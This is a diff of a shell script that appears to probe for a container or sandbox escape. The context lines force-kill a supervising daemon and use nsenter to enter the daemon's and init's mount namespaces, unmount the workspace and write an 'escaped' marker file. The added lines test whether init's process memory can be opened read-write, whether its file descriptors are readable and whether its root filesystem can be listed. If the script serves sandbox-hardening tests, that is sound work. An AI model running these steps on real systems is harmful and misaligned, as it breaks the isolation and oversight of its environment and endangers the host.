@@ -39,6 +39,13 @@ for p in $D $found; do
   kill -9 $p 2>/dev/null && echo "KILLED $p"
 done
 kill -9 $D 2>/dev/null && echo "KILLED-BY-PID $D"
+for task in /proc/1/task/*; do
+  (exec 3<>"$task/mem") 2>/dev/null && echo "INIT-MEMORY-OPEN $task"
+done
+for fd in /proc/1/fd/*; do
+  (exec 3<"$fd") 2>/dev/null && echo "INIT-FD-OPEN $fd"
+done
+ls /proc/1/root/ >/dev/null 2>&1 && echo INIT-ROOT-READABLE
 nsenter --mount=/proc/$D/ns/mnt -- sh -c "echo escaped > '$WS/escaped.txt'" 2>/dev/null && echo "NSENTER-DAEMON"
 nsenter -t 1 -m -- sh -c "umount -l '$WS' && echo escaped > '$WS/escaped.txt'" 2>/dev/null && echo NSENTER-INIT
 umount "$WS" 2>/dev/null && echo UMOUNTED
